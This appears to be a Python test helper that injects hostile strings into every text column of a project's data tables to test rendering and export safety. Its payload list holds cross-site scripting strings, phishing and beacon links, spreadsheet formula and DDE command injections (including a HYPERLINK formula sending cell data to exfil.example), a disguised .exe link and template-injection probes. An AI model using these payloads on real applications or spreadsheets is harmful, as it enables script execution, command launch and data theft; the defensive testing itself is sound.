"""Hostile text for every text column of every table: markup, links, formula starts, controls, long text."""
from __future__ import annotations

from pathlib import Path

from lib.data.schema import TABLES, ZERO_NOTE, Column, Table
from tests.conftest import read_table, write_table

PAYLOADS = (
    "Label ![img](https://tracker.example/beacon.png)",
    "[click me](javascript:alert(1))",
    '<a href="https://phish.example/x" target="_top">official notice</a>',
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script><!--",
    "<b>In</b><br>INJECT",
    '<span style="font-size:60px;color:red">DEU</span>',
    '=HYPERLINK("https://exfil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "see https://phish.example/bare and www.phish.example",
    "https://evil.example/\u202egpj.exe",
    "line one\n\n# Heading\n---",
    ":red[alarm] $x^2$ {{7*7}} ${7*7}",
    "nul\x00 esc\x1b[31m del\x7f nel\x85",
    "x" * 20_000,
)
MARKUP_TAG = r"<\s*/?\s*(a|img|script|b|i|span|iframe|svg|style|div|p)\b"  # any tag plotly or a browser would act on


def free_text(column: Column, table: Table) -> bool:
    """Columns that hold prose: no allowed set, no reference, not an id or part of a key, not a URL."""
    return (column.kind == "str" and not column.allowed and not column.references
            and column.name != table.id_column and column.name not in ("country", "chain_id", "parameter")
            and column.name not in table.unique_together
            and column.name not in {value for _, value in table.one_value_per_key})


def text_columns(table: Table) -> list[Column]:
    return [c for c in table.columns if c.kind in ("str", "list", "url", "url_list")]


def poison(directory: Path, columns_of) -> dict[str, list[str]]:
    """Put the payloads, one per row in turn, into the chosen columns of every table; returns what was changed.
    A note that carries a rule's wording (e.g. 'source reports zero' on a zero) keeps it, with the payload after."""
    changed = {}
    for name, table in TABLES.items():
        frame = read_table(directory, name)
        columns = [c.name for c in columns_of(table)]
        for offset, column in enumerate(columns):
            payloads = [PAYLOADS[(row + offset) % len(PAYLOADS)] for row in range(len(frame))]
            frame[column] = [_keep_rule_wording(old, new) for old, new in zip(frame[column], payloads)]
        for key, value in table.one_value_per_key:  # one payload per key, so 'one name per code' still holds
            names = {code: PAYLOADS[k % len(PAYLOADS)] for k, code in enumerate(dict.fromkeys(frame[key]))}
            frame[value] = frame[key].map(names)
            columns.append(value)
        write_table(directory, name, frame)
        changed[name] = columns
    return changed


def _keep_rule_wording(old: object, payload: str) -> str:
    return f"{ZERO_NOTE} {payload}" if isinstance(old, str) and ZERO_NOTE in old else payload
